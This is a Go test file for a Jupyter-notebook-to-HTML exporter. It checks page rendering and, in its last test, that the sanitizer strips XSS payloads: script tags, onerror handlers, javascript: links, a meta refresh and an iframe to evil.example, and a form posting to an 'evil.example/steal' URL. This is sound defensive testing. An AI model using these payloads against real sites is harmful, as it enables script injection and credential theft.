package export

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/dlfun/dlfun/dl/echarts"
	"golang.org/x/net/html"
)

func TestHTMLPage(t *testing.T) {
	chart := echarts.Line(echarts.Options{Title: "loss"}, echarts.LineSeries{Name: "train", Y: []float64{1, 2}}).HTML()
	lib := echarts.LibraryScript("window.echarts={}")
	nb := `{"cells": [
	 {"cell_type": "markdown", "metadata": {}, "source": ["# Hello\n", "text"]},
	 {"cell_type": "code", "execution_count": 3, "metadata": {}, "source": "x := 1 < 2",
	  "outputs": [
	   {"output_type": "stream", "name": "stdout", "text": ["hi\n"]},
	   {"output_type": "display_data", "metadata": {}, "data": {"text/html": ` + jsonString(lib+chart) + `, "text/plain": "chart"}},
	   {"output_type": "display_data", "metadata": {}, "data": {"image/png": "iVBORw0KGgo=\n"}},
	   {"output_type": "error", "ename": "panic", "evalue": "boom", "traceback": ["\u001b[31mred\u001b[0m"]}
	  ]}
	], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}`
	page, err := HTML([]byte(nb), "test <page>", Libraries{ECharts: "/*LIB*/", KaTeX: "/*KATEX*/", KaTeXCSS: ".katex{}"})
	if err != nil {
		t.Fatal(err)
	}
	s := string(page)
	for _, want := range []string{"<title>test &lt;page&gt;</title>", "/*LIB*/", "<h1>Hello</h1>", `<span class="p">&lt;</span>`, "[3]",
		`<pre class="stream">hi`, `<div id="dlfun-chart-1" class="dlfun-echarts"`, `("dlfun-chart-1",{`, `src="data:image/png;base64,iVBORw0KGgo="`, `<pre class="err">red</pre>`} {
		if !strings.Contains(s, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	if n := strings.Count(s, "data-dlfun-echarts-lib"); n != 1 {
		t.Errorf("library included %d times, want once (the inline copy from the output must be dropped)", n)
	}
	if strings.Contains(s, "/*KATEX*/") {
		t.Error("page without formulas carries KaTeX")
	}
	if _, err := HTML([]byte("not json"), "x", Libraries{}); err == nil {
		t.Error("HTML accepted a non-notebook")
	}
}

// TestHTMLPageMath checks that a page with formulas inlines KaTeX once,
// with the script that typesets them, and that text/markdown outputs are
// rendered too.
func TestHTMLPageMath(t *testing.T) {
	nb := `{"cells": [
	 {"cell_type": "markdown", "metadata": {}, "source": "Sigmoid $\\sigma(h)$"},
	 {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "",
	  "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/markdown": "| a |\n|---|\n| $x$ |"}}]}
	], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}`
	page, err := HTML([]byte(nb), "math", Libraries{ECharts: "/*LIB*/", KaTeX: "/*KATEX*/</script>", KaTeXCSS: ".katex{}"})
	if err != nil {
		t.Fatal(err)
	}
	s := string(page)
	for _, want := range []string{`<span class="math inline" data-delim="1">$\sigma(h)$</span>`, "<style>.katex{}</style>",
		`/*KATEX*/<\/script>`, "katex.render(", `<div class="md"><table>`, `<td><span class="math inline"`} {
		if !strings.Contains(s, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	if n := strings.Count(s, "/*KATEX*/"); n != 1 {
		t.Errorf("KaTeX inlined %d times, want once", n)
	}
}

func TestFile(t *testing.T) {
	if _, err := LoadLibraries(); err != nil {
		t.Skip("libraries not fetched: ", err)
	}
	out, err := File(filepath.Join("testdata", "charts.ipynb"), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(out)
	if filepath.Base(out) != "charts.html" || len(b) < 1_000_000 || !strings.Contains(string(b), "Every chart kind") {
		t.Errorf("export %s: %d bytes", out, len(b))
	}
}

func jsonString(s string) string {
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return `"` + r.Replace(s) + `"`
}

// TestHTMLPageActiveContent exports notebooks holding hostile HTML in a
// Markdown cell, a text/html output and an application/javascript output:
// the page keeps no script but its own (the libraries, the math typesetter
// and genuine dlfun charts), no event handler, no javascript: URL and no
// element that navigates or submits.
func TestHTMLPageActiveContent(t *testing.T) {
	chart := echarts.Line(echarts.Options{Title: `</script><script>alert("title")</script>`},
		echarts.LineSeries{Name: `<img src=x onerror=alert(1)>`, Y: []float64{1, 2}}).HTML()
	// A forged chart: the div and call of a chart around a script of its own.
	forged := strings.Replace(chart, "<script>", `<script>alert("forged");`, 1)
	tests := []struct{ name, html string }{
		{"entity-encoded javascript URL", `<a href="jav&#x61;script:alert(1)">link</a>`},
		{"meta refresh", `<meta http-equiv=refresh content="0;url=https://evil.example">`},
		{"form", `<form action="https://evil.example/steal"><input name=p></form>`},
		{"img onerror", `<img src=x onerror=alert(1)>`},
		{"svg script", `<svg><script>alert(1)</script></svg>`},
		{"iframe", `<iframe src="https://evil.example"></iframe>`},
		{"markdown javascript link", `[x](javascript:alert(1))`},
		{"script element", `<script>alert(1)</script>`},
		{"forged chart", forged},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			nb := `{"cells": [
			 {"cell_type": "markdown", "metadata": {}, "source": ` + jsonString(tc.html) + `},
			 {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "",
			  "outputs": [
			   {"output_type": "display_data", "metadata": {}, "data": {"text/html": ` + jsonString(tc.html) + `}},
			   {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": ` + jsonString(tc.html) + `}},
			   {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(1)", "text/plain": "js fallback"}},
			   {"output_type": "display_data", "metadata": {}, "data": {"text/html": ` + jsonString(chart) + `}}
			  ]}
			], "metadata": {}, "nbformat": 4, "nbformat_minor": 4}`
			page, err := HTML([]byte(nb), "x", Libraries{ECharts: "/*LIB*/", KaTeX: "/*KATEX*/", KaTeXCSS: ".katex{}"})
			if err != nil {
				t.Fatal(err)
			}
			s := string(page)
			body := s[strings.Index(s, "<main>"):]
			scripts := 0
			z := html.NewTokenizer(strings.NewReader(body))
			for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
				if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
					continue
				}
				tok := z.Token()
				switch tok.Data {
				case "script":
					scripts++
					if z.Next() != html.TextToken || !strings.HasPrefix(string(z.Text()), chartLoader()+`("dlfun-chart-`) {
						t.Errorf("page keeps a script that is not a chart's: %.80s", z.Text())
					}
				case "meta", "form", "input", "iframe", "svg", "object", "embed", "base", "link", "style":
					t.Errorf("page keeps <%s>", tok.Data)
				}
				for _, a := range tok.Attr {
					v := strings.ToLower(strings.TrimSpace(a.Val))
					if strings.HasPrefix(a.Key, "on") || (a.Key == "href" || a.Key == "src" || a.Key == "action") &&
						strings.Contains(v, ":") && !strings.HasPrefix(v, "https:") && !strings.HasPrefix(v, "data:image/") {
						t.Errorf("page keeps <%s %s=%q>", tok.Data, a.Key, a.Val)
					}
				}
			}
			if scripts != 1 {
				t.Errorf("page body holds %d scripts, want 1 (the genuine chart)", scripts)
			}
			if strings.Contains(body, "forged") || strings.Contains(body, `alert("title")</script>`) {
				t.Error("page keeps the forged chart's script or the title's")
			}
			if !strings.Contains(body, "js fallback") || !strings.Contains(body, `("dlfun-chart-1",{`) {
				t.Errorf("page lacks the JavaScript output's text or the genuine chart:\n%s", body)
			}
		})
	}
}
